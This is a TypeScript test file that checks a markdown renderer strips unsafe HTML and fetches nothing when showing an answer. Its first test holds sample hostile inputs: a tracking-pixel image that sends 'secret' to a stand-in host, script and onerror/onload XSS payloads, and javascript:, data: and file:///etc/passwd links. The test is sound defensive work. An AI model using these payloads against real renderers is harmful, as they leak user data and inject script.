import assert from "node:assert/strict";
import { test } from "node:test";
import { render } from "../src/render";

test("nothing in an answer is fetched or run by showing it", () => {
  const hostile = [
    "![pixel](https://example.invalid/?q=secret)",
    "![ref][1]",
    '<img src="https://example.invalid/a">',
    "<script>alert(1)</script>",
    "[run](javascript:alert(1)) [command](command:workbench.action.quit) [data](data:text/html,x) [file](file:///etc/passwd)",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`<svg onload=alert(1)>`",
    "```x\"><img src=x>\nbody\n```",
    "",
    "[1]: https://example.invalid/b",
  ].join("\n\n");
  const html = render(hostile);
  const tags = html.match(/<[^>]*>/g) ?? [];
  assert.ok(tags.length > 10);
  for (const tag of tags) {
    assert.match(tag, /^<\/?(p|pre|code( class="[^"]*")?|span( class="[^"]*")?)>$/, tag);
  }
});

test("code is shown as it is, with its colours", () => {
  const html = render("Like this:\n\n```tsx\nconst a = <b>&amp;</b>;\n```\n");
  assert.match(html, /hljs-keyword/);
  assert.equal(html.replace(/<[^>]+>/g, "").includes("const a = &lt;b&gt;&amp;amp;&lt;/b&gt;;"), true);
});

test("half an answer is rendered too", () => {
  for (const half of ["```ts\nconst a = `", "| a | b |\n|--", "**bold", "[link](http", "- [ ] x\n  1. "]) {
    assert.equal(typeof render(half), "string");
  }
});
